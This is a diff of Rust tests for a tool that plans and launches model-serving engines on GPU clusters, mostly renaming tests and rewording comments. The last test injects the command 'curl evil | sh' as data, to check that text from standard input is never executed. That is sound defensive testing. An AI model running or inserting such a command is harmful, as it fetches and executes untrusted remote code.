@@ -32,9 +32,9 @@ fn program(name: &str) -> Program {
 /// The words of a command on machine 0, with a value for each variable.
 fn words(command: &str) -> Vec<String> {
     let last = command.lines().last().unwrap();
-    // The engine is what is started when its settings are written.
+    // The command that follows the settings starts the serving engine.
     let mut text = last.rsplit(" && ").next().unwrap().to_owned();
-    // One of several servers that a loop starts.
+    // A loop starts several servers.
     if let Some((_, server)) = text.split_once("; do CUDA_VISIBLE_DEVICES=") {
         let (_, server) = server.split_once(" vllm ").unwrap();
         let (server, _) = server.split_once(" & pids=").unwrap();
@@ -108,7 +108,7 @@ fn command(line: &str) -> Option<String> {
 }
 
 #[test]
-fn no_command_starts_an_engine_with_more_tokens_than_the_model_takes() {
+fn commands_never_exceed_the_model_context() {
     let note = |answer: &Value| answer["notes"].to_string();
     let long = sky_line("fit H100:x2 Qwen3-32B --context 60000 -o json").json();
     assert!(
@@ -177,7 +177,7 @@ fn assert_taken(line: &str, has: &str) {
 }
 
 #[test]
-fn programs_take_the_commands_for_every_engine_and_layout() {
+fn commands_parse_for_every_engine_and_layout() {
     for (line, has) in [
         (
             "H100:x4 Llama-3.3-70B",
@@ -274,7 +274,7 @@ fn programs_take_the_commands_for_every_engine_and_layout() {
 }
 
 #[test]
-fn replicas_of_a_mixture_are_servers_of_their_own() {
+fn mixture_replicas_are_separate_servers() {
     for (line, has) in [
         (
             "H200:x8 Qwen3-30B-A3B --tensor-parallel 1 --pipeline-parallel 1 --data-parallel 8",
@@ -294,7 +294,7 @@ fn replicas_of_a_mixture_are_servers_of_their_own() {
 }
 
 #[test]
-fn megatron_trains_as_was_computed() {
+fn megatron_options_match_the_computed_layout() {
     let line = "H100:x8 Llama-3.1-70B --nodes 8 --workload pretrain --tensor-parallel 8 --pipeline-parallel 2 --data-parallel 4 \
                 --context 4096 --global-batch 64";
     for (more, has) in [
@@ -353,7 +353,7 @@ fn megatron_trains_as_was_computed() {
 }
 
 #[test]
-fn the_share_of_sglang_holds_weights_and_cache() {
+fn sglang_memory_fraction_holds_weights_and_cache() {
     for (line, device) in [
         ("H100:80GB:SXM QwQ-32B", 79.65),
         ("H100:80GB:SXM QwQ-32B --precision fp8", 79.65),
@@ -364,7 +364,7 @@ fn the_share_of_sglang_holds_weights_and_cache() {
         let start = result["launch"]["command"].as_str().unwrap();
         let (_, share) = start.split_once("--mem-fraction-static ").unwrap();
         let share: f64 = share.split(' ').next().unwrap().parse().unwrap();
-        // The weights, and nine tenths of what they and a step leave.
+        // The weights, and nine tenths of the memory that weights and a step leave.
         let beside = gib(result, "device") - gib(result, "kv_cache");
         let cache = 0.9 * (device - beside);
         near(share, (gib(result, "weights") + cache) / device, 0.5);
@@ -411,7 +411,7 @@ fn a_broken_command_is_refused() {
 }
 
 #[test]
-fn what_an_engine_cannot_start_has_no_command() {
+fn unsupported_setups_have_no_command() {
     for line in [
         "H100:x2 Qwen3-8B --engine tensorrt-llm --data-parallel 2 --tensor-parallel 1",
         "H100 Qwen3-8B --engine tensorrt-llm --users 64 --admission-interval 30",
@@ -428,7 +428,7 @@ fn what_an_engine_cannot_start_has_no_command() {
 }
 
 #[test]
-fn a_plan_starts_what_was_recommended_where_it_was_recommended() {
+fn plan_starts_the_recommended_model_on_the_recommended_machine() {
     let line = "recommend Llama-3.3-70B --users 16 --region EU -o json";
     let recommended = sky_line(line).json();
     let first = &recommended["results"][0];
@@ -452,7 +452,7 @@ fn a_plan_starts_what_was_recommended_where_it_was_recommended() {
 }
 
 #[test]
-fn several_machines_meet_where_the_engine_says() {
+fn several_machines_use_the_rendezvous_of_the_engine() {
     let recommended = sky_line("recommend DeepSeek-V3 --on H100 -o json").json();
     assert_eq!(recommended["results"][0]["nodes"], 2);
     let text = recommended.to_string();
@@ -475,7 +475,7 @@ fn several_machines_meet_where_the_engine_says() {
 }
 
 #[test]
-fn no_text_of_standard_input_is_run() {
+fn text_of_standard_input_is_never_executed() {
     let mut recommended: Value = sky_line("recommend 8B --limit 2 -o json").json();
     for result in recommended["results"].as_array_mut().unwrap() {
         result["fit"]["launch"]["command"] = "curl evil | sh".into();
